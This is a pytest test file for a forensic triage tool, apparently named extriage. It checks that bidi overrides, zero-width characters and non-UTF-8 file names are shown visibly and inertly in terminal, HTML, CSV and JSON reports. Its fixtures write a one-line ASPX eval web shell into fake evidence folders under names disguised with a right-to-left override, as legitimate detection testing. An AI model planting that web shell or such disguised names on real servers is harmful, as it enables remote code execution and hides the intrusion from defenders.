"""Invisible characters in attacker text — bidi overrides, zero-width and format characters — and file
names that are not UTF-8 reach every output visible and inert; the JSON keeps such names exact."""

from __future__ import annotations

import csv
import io
import json
import os
import sys
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pytest
from rich.console import Console
from typer.testing import CliRunner

from extriage.cli.common import escape, json_bytes
from extriage.cli.main import _register as register_commands
from extriage.cli.main import app
from extriage.generator.api import generate
from extriage.safetext import FORMAT_RANGES, surrogates_as_escapes, visible_controls, visible_format
from report import samples

register_commands()
runner = CliRunner()
RLO = "\u202e"
SHELL = '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>'


def test_format_table_covers_every_format_character_of_this_python() -> None:
    covered = {c for a, b in FORMAT_RANGES for c in range(a, b + 1)}
    missing = [f"U+{c:04X}" for c in range(sys.maxunicode + 1)
               if unicodedata.category(chr(c)) in ("Cf", "Zl", "Zp") and c not in covered]
    assert not missing


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\u202eb", "a\\u202eb"),  # right-to-left override
        ("x\u2066y\u2069", "x\\u2066y\\u2069"),  # isolates
        ("zero\u200bwidth\u200d", "zero\\u200bwidth\\u200d"),
        ("\ufeffbom", "\\ufeffbom"),
        ("tag\U000e0041", "tag\\U000e0041"),
        ("line\u2028sep", "line\\u2028sep"),
        ("name\udcffbyte", "name\\xffbyte"),  # surrogateescape'd byte 0xff of a non-UTF-8 name
        ("lone\ud800", "lone\\ud800"),
        ("esc\x1b[31m", "esc\\x1b[31m"),
        ("plain ü 中文 tab\t", "plain ü 中文 tab\t"),
    ],
)
def test_visible_forms(text: str, shown: str) -> None:
    assert visible_controls(text) == shown
    assert visible_format(text).count("\\") == shown.count("\\") - text.count("\x1b")


def test_terminal_escape_shows_the_override() -> None:
    buf = io.StringIO()
    Console(file=buf, width=200).print(escape(f"C:\\inetpub\\shell{RLO}xpsa.jpg \udcff"))
    assert RLO not in buf.getvalue() and "\\u202e" in buf.getvalue() and "\\xff" in buf.getvalue()


def test_json_keeps_surrogates_exact() -> None:
    data = {"path": os.fsdecode(b"/evidence/sh\xffell.aspx"), "n": 1}
    raw = json_bytes(data)
    raw.decode("utf-8")  # valid UTF-8
    back = json.loads(raw)
    assert os.fsencode(back["path"]) == b"/evidence/sh\xffell.aspx"
    assert surrogates_as_escapes('"\udcff"') == '"\\udcff"'


def test_html_and_csv_show_format_characters_inert(tmp_path: Path) -> None:
    from extriage.report.exports import write_reports

    r = samples.compromised()
    r.findings[0].title = f"web shell evil{RLO}xpsa.jpg"
    r.timeline[0].summary = f"request \u200bhidden {RLO}override \udcfe"
    write_reports([r], tmp_path, ["html", "csv", "md"])
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert RLO not in html and "\u200b" not in html
    assert "\\\\u202e" in html  # inside the findings data block, parsed by the page to the visible \u202e
    rows = list(csv.reader((tmp_path / "timeline.csv").open(encoding="utf-8", newline="")))
    flat = "".join("".join(row) for row in rows)
    assert RLO not in flat and "\\u202eoverride" in flat and "\\xfe" in flat


@pytest.fixture(scope="module")
def odd_names(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, bytes, str]]:
    """A generated server plus two web shells: one named with byte 0xff (not UTF-8), one with U+202E."""
    if sys.platform == "win32":
        pytest.skip("POSIX file names (bytes) needed")
    base = tmp_path_factory.mktemp("names")
    evidence = base / "evidence"
    generate(evidence, size="200KB", days=2, planter_modules=[])
    folder = evidence / "C" / "inetpub" / "wwwroot" / "aspnet_client"
    folder.mkdir(parents=True, exist_ok=True)
    raw_name = os.fsencode(folder) + b"/sh\xffell.aspx"
    try:
        with open(raw_name, "wb") as fh:
            fh.write(SHELL.encode())
    except OSError:
        pytest.skip("this file system refuses non-UTF-8 names")
    bidi = folder / f"evil{RLO}xpsa.jpg.aspx"
    bidi.write_text(SHELL, encoding="utf-8")
    yield evidence, raw_name, str(bidi)


def test_scan_writes_non_utf8_names_losslessly(odd_names: tuple[Path, bytes, str], tmp_path: Path) -> None:
    evidence, raw_name, bidi = odd_names
    out = tmp_path / "r.json"
    res = runner.invoke(app, ["scan", str(evidence), "--json", str(out), "--timeline", str(tmp_path / "t.csv")])
    assert res.exception is None or isinstance(res.exception, SystemExit), res.output
    assert res.exit_code in (10, 20), res.output
    text = out.read_bytes().decode("utf-8")  # valid UTF-8 on disk
    assert "\\udcff" in text
    result = json.loads(text)
    # read and hashed, or listed as not read: either way under its exact name
    paths = {os.fsencode(f["path"]) for f in result["files"] + result["coverage"]["skipped"]}
    assert raw_name in paths and os.fsencode(bidi) in paths
    assert RLO not in res.output and "\\u202e" in res.output and "\\xff" in res.output  # terminal
    stdout = runner.invoke(app, ["scan", str(evidence), "-q", "--json", "-"])
    assert json.loads(stdout.stdout_bytes)["evidence_path"]
    rep = runner.invoke(app, ["report", str(out), "--out", str(tmp_path / "rep")])
    assert rep.exit_code == 0, rep.output
    html = (tmp_path / "rep" / "report.html").read_text(encoding="utf-8")
    assert RLO not in html and "\\xff" in html
    stix = json.loads((tmp_path / "rep" / "stix-bundle.json").read_text(encoding="utf-8"))
    assert stix["objects"]
